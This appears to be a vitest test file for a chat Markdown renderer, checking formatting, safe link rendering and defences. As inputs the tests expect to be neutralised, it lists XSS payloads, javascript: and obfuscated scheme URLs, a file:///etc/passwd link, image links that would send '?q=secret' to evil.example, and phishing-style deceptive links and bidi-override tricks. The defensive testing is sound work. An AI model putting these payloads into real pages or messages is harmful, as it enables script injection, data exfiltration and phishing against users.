import { describe, expect, it } from 'vitest';
import { htmlOf } from '../../test/markdown-html.ts';

describe('Markdown of a chat', () => {
  it.each([
    ['plain words', '<p>plain words</p>'],
    ['one\ntwo\n\nthree', '<p>one<br>two</p><p>three</p>'],
    ['**b** *i* ~~d~~ `c *x*`', '<p><strong>b</strong> <em>i</em> <del>d</del> <code>c *x*</code></p>'],
    ['# Big **one**', '<p><strong>Big <strong>one</strong></strong></p>'],
    ['```js\nif (a < b) {}\n```', '<pre><code>if (a &#60; b) {}</code></pre>'],
    ['- a\n- b\n  1. c', '<ul><li>a</li><li>b<ol start="1"><li>c</li></ol></li></ul>'],
    ['7. seven\n8. eight', '<ol start="7"><li>seven</li><li>eight</li></ol>'],
    ['- [ ] open\n- [x] done', '<ul><li>☐ open</li><li>☑ done</li></ul>'],
    ['> a\n> > b', '<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>'],
    ['> a\nnot quoted', '<blockquote><p>a</p></blockquote><p>not quoted</p>'],
    ['\\*as typed\\*', '<p>*as typed*</p>'],
    ['a\n---\nb', '<p>a</p><hr></hr><p>b</p>'],
  ])('%j', (text, html) => {
    expect(htmlOf(text)).toBe(html);
  });

  it('shows a table of GitHub’s kind, with inline Markdown in its cells', () => {
    expect(htmlOf('| a | b \\| c |\n|---|:-:|\n| **1** |\n| 2 | 3 | 4 |')).toBe(
      '<table><thead><tr><th>a</th><th>b | c</th></tr></thead>' +
        '<tbody><tr><td><strong>1</strong></td><td></td></tr><tr><td>2</td><td>3</td></tr></tbody></table>',
    );
    expect(htmlOf('a | b\nc | d')).toBe('<p>a | b<br>c | d</p>');
  });

  it('on a page of its own, headings are headings, below the one of the page', () => {
    expect(htmlOf('# a *b*\n## c\n### d\n###### e', { headings: true })).toBe(
      '<h2>a <em>b</em></h2><h3>c</h3><h4>d</h4><h4>e</h4>',
    );
  });

  it('keeps every word of what looks like a definition or a reference', () => {
    expect(htmlOf('[note]: remember the milk\n[a][note] and &amp;')).toBe(
      '<p>[note]: remember the milk<br>[a][note] and &#38;amp;</p>',
    );
  });
});

describe('links', () => {
  const link = (href: string, label: string) =>
    `<a href="${href}" target="_blank" rel="noopener noreferrer nofollow ugc">${label}</a>`;
  const host = (name: string) => `<span dir="ltr"> (${name})</span>`;

  it.each([
    ['[docs](https://a.example/b?c=1#d)', link('https://a.example/b?c=1#d', 'docs')],
    ['https://a.example/b', link('https://a.example/b', 'https://a.example/b')],
    ['www.a.example', link('http://www.a.example/', 'www.a.example')],
    ['ada@a.example', link('mailto:ada@a.example', 'ada@a.example')],
    ['[call](tel:+15550100)', link('tel:+15550100', 'call')],
    ['[+1 555-0100](tel:+15550100)', link('tel:+15550100', '+1 555-0100')],
    ['[A.Example/x](https://a.example/y)', link('https://a.example/y', 'A.Example/x')],
    ['[version 1.2 (e.g.)](https://a.example)', link('https://a.example/', 'version 1.2 (e.g.)')],
  ])('%s opens apart and tells nothing to where it leads', (text, html) => {
    expect(htmlOf(text)).toBe(`<p>${html}</p>`);
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert`1`)',
    '[x](java\tscript:alert(1))',
    '[x](<java\u0000script:alert(1)>)',
    '[x](\u0001javascript:alert(1))',
    '[x](<\u00a0javascript:alert(1)>)',
    '[x](<java\u200bscript:alert(1)>)',
    '[x](javascript&#58;alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:msgbox)',
    '[x](file:///etc/passwd)',
    '[x](blob:https://a.example/1)',
    '[x](//evil.example)',
    '[x](/relative)',
    '[x](https:)',
    '![x](javascript:alert(1))',
    '<javascript:alert(1)>',
    '[x]: javascript:alert(1)\n[x]',
  ])('case 33: %j becomes no link', (text) => {
    expect(htmlOf(text)).not.toContain('<a');
  });

  it('a picture of the company’s is shown where pictures are, with its size, and named where they are not', () => {
    const id = '01hzzzzzzzzzzzzzzzzzzzzzzz';
    const pictureOf = (of: string) => (of === id ? { src: `/p/${of}`, width: 30, height: 20 } : null);
    expect(htmlOf(`![A *pot*](picture:${id})`, { pictureOf })).toBe(
      `<p><img src="/p/${id}" alt="A *pot*" width="30" height="20" loading="lazy" decoding="async"></img></p>`,
    );
    expect(htmlOf(`![A pot](picture:${id})`)).toBe('<p>A pot</p>');
    expect(htmlOf(`![](picture:${id})`)).toBe('<p></p>');
    for (const href of [
      `picture:${id.replace('1', '2')}`,
      `PICTURE:${id}`,
      `picture:../${id}`,
      `picture://${id}`,
      `https://evil.example/picture:${id}`,
      'data:image/png;base64,AAAA',
      `/help-pictures/${id}`,
    ])
      expect([href, htmlOf(`![x](${href})`, { pictureOf }).includes('<img')]).toEqual([href, false]);
  });

  it('cases 47, 126: an image is never loaded, only named', () => {
    expect(htmlOf('![a cat](https://evil.example/?q=secret)')).toBe(
      `<p>${link('https://evil.example/?q=secret', 'a cat')}</p>`,
    );
    expect(htmlOf('![](https://evil.example/p.png)')).toBe(
      `<p>${link('https://evil.example/p.png', 'https://evil.example/p.png')}</p>`,
    );
    expect(htmlOf('[![logo](https://evil.example/l.png)](https://a.example)')).toBe(
      `<p>${link('https://a.example/', 'logo')}</p>`,
    );
    expect(htmlOf('![logo][ref]\n\n[ref]: https://evil.example/l.png')).not.toContain('<img');
  });

  it('case 126: a writer who is trusted less may be held to a list of hosts', () => {
    const options = { allowLink: (url: URL) => url.hostname === 'docs.example' };
    expect(htmlOf('[a](https://docs.example/x)', options)).toContain('<a href="https://docs.example/x"');
    expect(htmlOf('[a](https://evil.example/?q=secret)', options)).toBe(
      '<p>a (https://evil.example/?q=secret)</p>',
    );
    expect(htmlOf('https://evil.example/', options)).toBe('<p>https://evil.example/</p>');
  });

  it.each([
    ['[https://bank.example](https://evil.example)', 'evil.example'],
    ['[bank.example](https://evil.example)', 'evil.example'],
    ['[**bank.example**/login](https://evil.example)', 'evil.example'],
    ['[bank.example](https://bank.example.evil.example)', 'bank.example.evil.example'],
    ['[bank.example](https://bank.example@evil.example)', 'evil.example'],
    ['https://bank.example@evil.example/', 'evil.example'],
    ['[http://2130706433/](http://2130706433/)', '127.0.0.1'],
    ['[http://0x7f.1/](http://0x7f.1/)', '127.0.0.1'],
    ['[а-bank.example](https://а-bank.example)', 'xn---bank-3ve.example'],
    ['[bank.example:8443](https://bank.example)', 'bank.example'],
    ['[help@bank.example](mailto:evil@evil.example)', 'evil@evil.example'],
    ['[+1 555 0100 00](tel:+15559999)', '+15559999'],
    [`[${'long '.repeat(60)}bank.example](https://evil.example)`, 'evil.example'],
  ])('case 127: %s shows where it really leads', (text, target) => {
    expect(htmlOf(text)).toContain(`</a>${host(target)}`);
  });
});

describe('attacks', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<style>*{display:none}</style>',
    '<!-- --><b>x</b>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?php echo 1 ?>',
    '<div\n><script>alert(1)</script></div>',
    '`<img src=x onerror=alert(1)>`',
    '```html\n<script>alert(1)</script>\n```',
    '> <script>alert(1)</script>',
    '- <img src=x onerror=alert(1)>',
    '| <b>x</b> |\n|---|\n| <script>alert(1)</script> |',
    '[<img src=x onerror=alert(1)>](https://a.example)',
    '[x](https://a.example "><script>alert(1)</script>")',
    '[x](https://a.example/"onmouseover="alert(1))',
    '![<script>alert(1)</script>](https://a.example)',
    '\\<script>alert(1)\\</script>',
  ])('case 32: %j stays text', (text) => {
    const html = htmlOf(text);
    const tags = [...html.matchAll(/<\/?(\w+)([^>]*)>/g)];
    const allowed = /^(p|br|pre|code|blockquote|ul|li|table|thead|tbody|tr|th|td|a|span)$/;
    expect(tags.filter(([, name]) => !allowed.test(name!)).map(([tag]) => tag)).toEqual([]);
    expect(
      tags.filter(([, , attributes]) => /\bon\w+=|style=|src/i.test(attributes!.replace(/"[^"]*"/g, ''))),
    ).toEqual([]);
  });

  it('case 136: direction overrides and isolates are taken out, direction marks stay', () => {
    expect(htmlOf('a\u202egpj.exe\u202c \u2066b\u2069 \u200fc')).toBe('<p>agpj.exe b \u200fc</p>');
    expect(htmlOf('[\u202emoc.knab](https://evil.example)')).not.toMatch(/[\u202a-\u202e]/);
  });
});
